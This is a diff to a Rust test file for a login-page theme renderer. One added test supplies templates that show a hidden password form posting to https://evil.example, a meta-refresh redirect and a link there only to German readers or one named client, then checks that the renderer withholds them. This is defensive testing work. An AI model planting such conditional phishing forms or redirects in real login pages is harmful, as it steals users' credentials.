@@ -59,7 +59,7 @@ fn a_page_without_its_form_is_left_to_the_default_theme() {
     let theme = load(&[("login.html", "<!DOCTYPE html><p>Welcome</p>")]).unwrap();
     let refused = refusals(&theme).join("\n");
     assert!(
-        refused.contains("login.html: the page leaves out what it is for"),
+        refused.contains("login.html: a form is missing or incomplete"),
         "{refused}"
     );
     let drawn = theme.draw(&Login::sample(), english());
@@ -87,6 +87,48 @@ fn a_page_that_fails_for_some_people_only_falls_back_for_them_and_is_told_once()
             .draw(&Login::sample(), english())
             .html
             .contains("<button>Go</button>")
+    );
+}
+
+/// A template knows who reads it and in which language, and the trial knows some of both only.
+#[test]
+fn a_page_that_leads_some_people_elsewhere_is_not_shown_to_them() {
+    let whole = format!("{}</body></html>", FORM.split("</body>").next().unwrap());
+    for evil in [
+        "<form method=\"post\" action=\"https://evil.example\">{{ hidden }}<input name=\"password\"></form>",
+        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">",
+        "<template><a href=\"https://evil.example\"></a>",
+    ] {
+        for condition in ["lang == \"de\"", "client_name == \"Radio\""] {
+            let evil = format!("<body>{{% if {condition} %}}{evil}{{% endif %}}");
+            let theme = load(&[("login.html", &whole.replace("<body>", &evil))]).unwrap();
+            assert_eq!(refusals(&theme), Vec::<String>::new());
+            let german = theme.locale(Some("de"), None);
+            let radio = Login {
+                client_name: "Radio".to_owned(),
+                ..Login::sample()
+            };
+            let drawn = theme.draw(&radio, german);
+            assert!(!drawn.html.contains("evil") && drawn.html.contains("card page-login"));
+            assert_eq!(drawn.fault.unwrap().place, "login.html");
+            let others = theme.draw(&Login::sample(), english());
+            assert!(others.html.contains("<button>Go</button>") && others.fault.is_none());
+        }
+    }
+}
+
+#[test]
+fn a_page_that_has_no_form_is_laid_out_by_hand_too() {
+    let theme = load(&[("login.html", FORM)]).unwrap();
+    let page = Login {
+        takes_password: false,
+        problem: Some(LoginProblem::NoWay),
+        ..Login::sample()
+    };
+    let drawn = theme.draw(&page, english());
+    assert!(
+        drawn.fault.is_none() && !drawn.html.contains("card page-login"),
+        "{drawn:?}"
     );
 }
 
